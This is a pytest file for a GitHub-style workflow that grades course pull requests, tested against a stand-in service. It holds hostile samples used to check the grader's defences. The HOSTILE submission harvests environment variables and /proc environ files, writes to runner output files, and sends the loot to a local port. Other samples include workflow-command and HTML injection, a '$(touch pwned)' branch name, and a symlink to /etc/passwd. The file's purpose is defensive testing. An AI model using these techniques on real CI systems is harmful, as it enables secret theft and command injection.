"""The workflow that grades pull requests, run step by step with stand-ins for the service."""

import re
import shutil
from collections.abc import Callable, Iterator, Mapping
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import jupytext
import pytest
import torch

from manyheads.authoring.class_repository import bundle, hand_over
from manyheads.course import load_course
from manyheads.platforms.grade_pull_request import MARK
from tests.make import (
    NOT_OF_THE_COURSE,
    REPOSITORY,
    RIGHT,
    TINY,
    WRONG,
    content,
    copy_course,
    edit_text,
    git,
)
from tests.workflows.hosted.runner import Job, Run, load_workflow
from tests.workflows.hosted.service import Service

SCRIPT, NOTEBOOK = (f"exercises/averages/01_running_mean{end}" for end in (".py", ".ipynb"))
KEY = "-----BEGIN OPENSSH PRIVATE KEY----- the key of the private course"
WORKFLOW = ".github/workflows/grade.yml"
DEVICE = "cuda" if torch.cuda.is_available() else "cpu"


def publish(folder: Path, bare: Path) -> str:
    """Commit a folder, clone it to the bare repository `bare`, and return the commit."""
    git(folder, "init", "--quiet")
    git(folder, "add", "--all", "--force", ".")
    git(folder, "commit", "--quiet", "--message", "as released")
    git(folder, "clone", "--quiet", "--bare", str(folder), str(bare))
    return git(folder, "rev-parse", "HEAD")


def create_repositories(folder: Path) -> str:
    """Make the repositories of the tiny course and of its class, and return the course's commit."""
    private, repositories = folder / "private", folder / "repositories" / "school"
    copy_course(TINY, private)
    repositories.mkdir(parents=True)
    for name in ("Makefile", "pyproject.toml", "constraints.txt"):
        shutil.copy(REPOSITORY / name, private)
    shutil.copytree(REPOSITORY / "tools", private / "tools", ignore=NOT_OF_THE_COURSE)
    course = load_course(TINY)
    files = [TINY / "exercises" / name for name in content(TINY / "exercises")]
    hand_over(course, folder / "released", bundle(course, files, "@school"))
    publish(folder / "released", repositories / "class.git")
    commit = publish(private, repositories / "course.git")
    (repositories / "course.git" / "deploy-key").write_text(KEY)
    return commit


@dataclass
class School:
    """A class repository and a private course on a service, with the settings of the class."""

    folder: Path
    service: Service
    course_ref: str
    variables: dict[str, str] = field(default_factory=lambda: {"GRADING": "on"})
    course_key: str = KEY
    options: dict[str, Any] = field(default_factory=dict)  # arguments for Run

    @property
    def bare(self) -> Path:
        """Return the bare class repository of the service."""
        return self.service.repositories / "school" / "class.git"

    def clone(self) -> Path:
        """Return a new clone of the class repository."""
        work = self.folder / f"work-{len(list(self.folder.iterdir()))}"
        git(self.folder, "clone", "--quiet", str(self.bare), str(work))
        return work

    def pull_request(
        self,
        number: int,
        changes: Mapping[str, str | Path],
        login: str = "ada",
        fork: bool = False,
        **fields: str,
    ) -> dict[str, Any]:
        """Return the event of a pull request, from a branch or a fork, with one commit.

        Args:
            number: its number.
            changes: the new text of each file, or the target of a link.
            login: the account that opens it.
            fork: whether its commit is in a fork.
            fields: the name of the branch, and other fields of the event.
        """
        work = self.clone()
        for name, change in changes.items():
            path = work / name
            path.unlink(missing_ok=True)
            path.parent.mkdir(parents=True, exist_ok=True)
            if isinstance(change, Path):
                path.symlink_to(change)
            else:
                path.write_text(change)
        git(work, "add", "--all", "--force", ".")
        git(work, "commit", "--quiet", "--allow-empty", "--message", "my attempt")
        head = self.service.heads[number] = git(work, "rev-parse", "HEAD")
        self.service.authors[number] = login
        git(work, "push", "--quiet", "--force", "origin", f"HEAD:refs/pull/{number}/head")
        pull = {
            "head": {"sha": head, "ref": fields.pop("branch", login), "repo": {"fork": fork}},
            "number": number,
            "user": {"login": login, "type": "Bot" if login.endswith("[bot]") else "User"},
            **fields,
        }
        return {"pull_request": pull, "repository": {"full_name": "school/class"}}

    def run(self, event: Mapping[str, Any], name: str = "pull_request_target") -> dict[str, Job]:
        """Run the workflow that stands on the default branch, and return its jobs."""
        workflow = load_workflow(git(self.bare, "show", f"main:{WORKFLOW}"))
        assert name in workflow["on"]
        settings = {"COURSE_REPOSITORY": "school/course", "COURSE_REF": self.course_ref}
        holds = {"secrets": {"COURSE_KEY": self.course_key}, "vars": settings}
        environments = {"grading": holds, "gpu": holds}
        folder = self.folder / f"run-{len(list(self.folder.iterdir()))}"
        options = {"device": DEVICE, "environments": environments, **self.options}
        run = Run(workflow, name, event, self.service, folder, self.variables, **options)
        return run.run_jobs()

    def dispatch(self, number: int) -> dict[str, Job]:
        """Start the workflow by hand for a pull request, and return its jobs."""
        repository = {"full_name": "school/class", "default_branch": "main"}
        event = {"inputs": {"pull_request": str(number)}, "repository": repository}
        return self.run(event, "workflow_dispatch")


pytestmark = pytest.mark.journey
NO_RUNNER = (
    "**On a GPU:** Not run: this class has no GPU runner (the repository variable GPU_RUNNER "
    "is empty)."
)
RUNNER_COMMAND = re.compile(r"(?m)^\s*::|##\[")  # a step's output could command the runner


@pytest.fixture(scope="session")
def template_repositories(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, str]:
    """Return both repositories, to be copied by each test, and the course's commit."""
    folder = tmp_path_factory.mktemp("founded")
    return folder / "repositories", create_repositories(folder)


@pytest.fixture
def school(template_repositories: tuple[Path, str], tmp_path: Path) -> Iterator[School]:
    """Return a class repository and a private course on a new service."""
    shutil.copytree(template_repositories[0], tmp_path / "repositories")
    (tmp_path / "school").mkdir()
    with Service(tmp_path / "repositories") as service:
        yield School(
            tmp_path / "school",
            service,
            template_repositories[1],
            options={"look": assert_no_secrets_left},
        )


def assert_no_secrets_left(job: Job) -> None:
    """Check after every step that no file contains a secret and no output commands the runner."""
    assert not RUNNER_COMMAND.search(job.log), job.log
    for path in job.folder.rglob("*"):
        if path.is_file() and not path.is_symlink() and ".venv" not in path.parts:
            content = path.read_bytes()
            assert KEY.encode() not in content, path
            assert job.token.encode() not in content, path


def assert_ended(jobs: dict[str, Job], **overrides: str) -> None:
    """Check the result of each job: the defaults are a successful run without a GPU.

    overrides: the results of jobs that differ from the defaults.
    """
    usual = {"cpu": "success", "approval": "skipped", "gpu": "skipped", "report": "success"}
    log = "\n".join(job.log for job in jobs.values())
    assert {name: job.result for name, job in jobs.items()} == usual | overrides, log


def comment(school: School, number: int) -> str:
    """Return the only comment of the grader on a pull request."""
    (only,) = school.service.comments_on(number)
    assert only.startswith(f"{MARK}\n")
    return only.removeprefix(f"{MARK}\n")


def newest_annotation(school: School) -> dict[str, Any]:
    """Return the only line annotation of the newest check run."""
    (annotation,) = school.service.check_runs[-1]["output"]["annotations"]
    return annotation


def test_each_push_is_graded_and_replaces_the_comment(
    school: School,
) -> None:
    school.variables["GPU_RUNNER"] = "gpu-box"
    jobs = school.run(school.pull_request(1, {SCRIPT: RIGHT}))
    assert_ended(jobs, approval="success", gpu="success")
    hosted = "ubuntu-24.04"
    assert [job.label for job in jobs.values()] == [hosted, hosted, "gpu-box", hosted]
    comment_text = comment(school, 1)
    assert comment_text.startswith("## Averages: 4 / 4\n")
    assert f"## On the GPU runner \\({DEVICE}\\): 4 / 4\n" in comment_text
    assert "isolation: namespaces" in comment_text
    assert jobs["report"].summary == f"{comment_text}\n"
    assert jobs["cpu"].summary.startswith("## Averages: 4 / 4\n")
    (run,) = school.service.check_runs
    assert (run["head_sha"], run["conclusion"]) == (school.service.heads[1], "success")
    assert run["output"]["summary"] == comment_text
    assert run["output"]["annotations"] == []

    del school.variables["GPU_RUNNER"]
    assert_ended(school.run(school.pull_request(1, {SCRIPT: WRONG})))
    comment_text = comment(school, 1)
    assert comment_text.startswith("## Averages: 2 / 4\n")
    assert "✗ running_mean: You divided by the length of x everywhere.\n" in comment_text
    assert "\n  hint: How many numbers are in the mean at position 0?\n" in comment_text
    assert NO_RUNNER in comment_text
    run = school.service.check_runs[-1]
    assert (run["head_sha"], run["conclusion"]) == (school.service.heads[1], "failure")
    assert run["output"]["title"] == "2 / 4"
    caches = (school.service.repositories.parent / "caches").iterdir()
    names = sorted("-".join(path.name.split("-")[:2]) for path in caches)
    assert names == ["graded-cpu", "graded-cpu", "graded-gpu", "grader-cpu", "grader-gpu"]
    assert newest_annotation(school)["path"] == SCRIPT
    assert WRONG.splitlines()[newest_annotation(school)["start_line"] - 1] == "def running_mean(x):"
    assert "You divided by the length of x everywhere." in newest_annotation(school)["message"]


def test_a_notebook_in_a_fork_is_graded(school: School) -> None:
    notebook = jupytext.read(TINY / NOTEBOOK)
    cell = next(c for c in notebook.cells if "YOUR CODE HERE" in c.source)
    cell.source = WRONG.replace("x[: t + 1].sum()", "x[: t + 1].summ()")
    text = jupytext.writes(notebook, fmt="ipynb")
    assert_ended(school.run(school.pull_request(2, {NOTEBOOK: text}, login="ben", fork=True)))
    assert comment(school, 2).startswith("## Averages: ")
    assert "raised AttributeError on line" in comment(school, 2)
    assert newest_annotation(school)["path"] == NOTEBOOK
    assert ".summ()" in text.splitlines()[newest_annotation(school)["start_line"] - 1]


def test_edits_to_the_workflow_and_the_grader_have_no_effect(
    school: School, tmp_path: Path
) -> None:
    ran = tmp_path / "ran"
    program, shell = f"open({str(ran)!r}, 'w').write('ran')\n", f"touch {ran}\n"
    programs = ("grader/__init__.py", "conftest.py", "torch.py", "exercises/averages/conftest.py")
    changes = {
        WORKFLOW: edit_text(
            (REPOSITORY / WORKFLOW).read_text(),
            ("run: sh course/tools/allow-namespaces", f"run: {shell}"),
        ),
        ".github/workflows/mine.yml": (
            f"on: pull_request\njobs: {{x: {{steps: [{{run: '{shell}'}}]}}}}\n"
        ),
        **dict.fromkeys(programs, program),
        "course.yaml": "title: Mine\n",
        "requirements.txt": "./evil\n",
        "constraints.txt": "torch==0.0.1\n",
        "tools/allow-namespaces": shell,
        "Makefile": f"setup:\n\t{shell}",
        "exercises/averages/fingerprints/01_running_mean.safetensors": "forged",
        SCRIPT: WRONG,
    }
    assert_ended(school.run(school.pull_request(3, changes)))
    assert comment(school, 3).startswith("## Averages: 2 / 4\n")
    assert not ran.exists()
    assert "| ✗ | 01 The running mean | 2 / 4 |" in comment(school, 3)


# an attempt that searches for secrets, sends them, and prints commands for the runner
HOSTILE = """
import glob, os, socket, sys

LOOT = " ".join(os.environ.values())
for word in ("::set-output name=hygiene::clean", "::add-mask::4", "::stop-commands::x", \
"::error::x", "##[error]x"):
    print(word, flush=True)
    print(word, file=sys.stderr, flush=True)
files = [os.environ.get(name, "") for name in ("GITHUB_OUTPUT", "GITHUB_ENV", "GITHUB_PATH", \
"GITHUB_STEP_SUMMARY")]
for path in (*files, "/proc/self/environ", "/proc/1/environ", *glob.glob("FOLDER/**", \
recursive=True)):
    try:
        LOOT += open(path, errors="replace").read()
        open(path, "a").write("hygiene=clean\\nEVIL=1\\n")
    except OSError:
        pass
try:
    socket.create_connection(("127.0.0.1", PORT), 1).sendall(f"GET /stolen?{LOOT!r} \
HTTP/1.0\\r\\n\\r\\n".encode())
except OSError:
    pass


class Teacher(ValueError):
    pass


Teacher.__name__ = Teacher.__qualname__ = "</pre></details> @teacher \
![x](https://example.org/x.png) #1"


def running_mean(x):
    if x.numel() == 0:
        os._exit(0)
    raise Teacher("</pre></details><h1>4 / 4</h1> @teacher [x](https://example.org) " + LOOT[:99])
"""


def test_a_hostile_attempt_obtains_no_secrets_and_injects_no_text(school: School) -> None:
    school.variables["GPU_RUNNER"] = "gpu-box"
    port = school.service.address.rsplit(":", 1)[1]
    source = HOSTILE.replace("PORT", port).replace("FOLDER", str(school.folder))
    event = school.pull_request(
        4,
        {SCRIPT: source, NOTEBOOK: Path("/etc/passwd")},
        branch="$(touch pwned)`touch pwned`",
        title="::set-output name=hygiene::clean",
        body="</pre> @teacher\n::error::x",
    )
    jobs = school.run(event)
    assert_ended(jobs)
    assert jobs["cpu"].outputs["hygiene"] == "not clean"
    comment_text = comment(school, 4)
    assert comment_text.startswith("## Averages: 0 / 4\n")
    assert "raised ValueError on line" in comment_text
    assert f"{NOTEBOOK} is a symbolic link: hand in the file itself." in " ".join(
        comment_text.split()
    )
    assert "**On a GPU:** Not run. A file could not be taken." in comment_text
    for word in ("teacher", "example.org", "<h1>", "::"):
        assert word not in comment_text
        assert word not in str(school.service.check_runs)
    assert not [request for request in school.service.requests if "stolen" in request]
    assert not list(school.folder.rglob("pwned"))


def forbid_user_namespaces(school: School, event: dict[str, Any]) -> None:
    """Make bubblewrap fail, also after the step that allows user namespaces."""
    tools = school.folder / "tools"
    tools.mkdir()
    # setpriv: root tries bubblewrap as another user
    for name in ("bwrap", "setpriv", "sudo"):
        (tools / name).write_text("#!/bin/sh\nexit 1\n")
        (tools / name).chmod(0o755)
    school.options["tools"] = str(tools)


def remove_commit(school: School, event: dict[str, Any]) -> None:
    """Name a commit that does not exist as the head of the pull request."""
    event["pull_request"]["head"]["sha"] = school.service.heads[6] = "b" * 40


# row: (change of the setup, step that fails, phrase in the comment)
FAILED_STEPS: dict[str, tuple[Callable[[School, dict[str, Any]], object], str, str]] = {
    "the course is not pinned to a commit": (
        lambda school, event: setattr(school, "course_ref", "main"),
        "Demand that the course is pinned to a commit",
        "not yours",
    ),
    "a wrong deploy key": (
        lambda school, event: setattr(school, "course_key", "another"),
        "Fetch the private course",
        "not yours",
    ),
    "no user namespaces": (forbid_user_namespaces, "Allow user namespaces", "not yours"),
    "files that cannot be fetched": (
        remove_commit,
        "Collect the exercise files",
        "The files of this pull request could not be read.",
    ),
}


@pytest.mark.parametrize(
    ("set_up", "failed", "in_comment"), FAILED_STEPS.values(), ids=FAILED_STEPS
)
def test_a_failed_setup_step_is_reported_to_the_student(school, set_up, failed, in_comment):
    event = school.pull_request(number=6, changes={SCRIPT: RIGHT})
    set_up(school, event)
    jobs = school.run(event)
    assert_ended(jobs, cpu="failure")
    assert [name for name, outcome in jobs["cpu"].steps.items() if outcome == "failure"] == [failed]
    assert comment(school, 6).startswith("## Not graded\n")
    assert in_comment in comment(school, 6)
    assert school.service.check_runs[-1]["conclusion"] == "neutral"


@pytest.mark.parametrize(
    ("grading", "login"), [("", "ada"), ("on", "updates[bot]")], ids=["grading is not on", "a bot"]
)
def test_no_job_runs_for_a_bot_or_with_grading_off(
    school: School, grading: str, login: str
) -> None:
    school.variables["GRADING"] = grading
    jobs = school.run(school.pull_request(7, {SCRIPT: RIGHT}, login=login, fork=True))
    assert {job.result for job in jobs.values()} == {"skipped"}
    assert school.service.requests == []


def test_a_pull_request_without_an_attempt_is_not_graded(school: School) -> None:
    assert_ended(school.run(school.pull_request(5, {"notes.md": "Soon.\n"})))
    assert comment(school, 5).startswith("## Nothing is started\n")
    assert school.service.check_runs[-1]["conclusion"] == "neutral"


def test_a_merged_attempt_is_graded_without_the_unapproved_gpu_run(
    school: School,
) -> None:
    """Stubs are read from the private course: the class repository may contain a merged attempt."""
    school.variables["GPU_RUNNER"] = "gpu-box"
    school.options["refused"] = "gpu-approval"
    work = school.clone()
    (work / SCRIPT).write_text(WRONG)
    git(work, "commit", "--quiet", "--all", "--message", "merged by mistake")
    git(work, "push", "--quiet", "origin", "HEAD:main")
    assert_ended(school.run(school.pull_request(13, {"notes.md": "Mine.\n"})), approval="failure")
    assert comment(school, 13).startswith("## Averages: 2 / 4\n")
    assert "**On a GPU:** Not run. Nobody approved it." in comment(school, 13)
    assert newest_annotation(school)["path"] == SCRIPT


def test_a_dispatch_grades_the_newest_commit(school: School) -> None:
    school.pull_request(14, {SCRIPT: WRONG})
    school.pull_request(14, {SCRIPT: RIGHT})  # the newest commit, which was never graded
    school.pull_request(15, {SCRIPT: WRONG}, login="ben", fork=True)
    for number, score in ((14, 4), (15, 2)):
        assert_ended(school.dispatch(number))
        assert comment(school, number).startswith(f"## Averages: {score} / 4\n")
        assert school.service.check_runs[-1]["head_sha"] == school.service.heads[number]
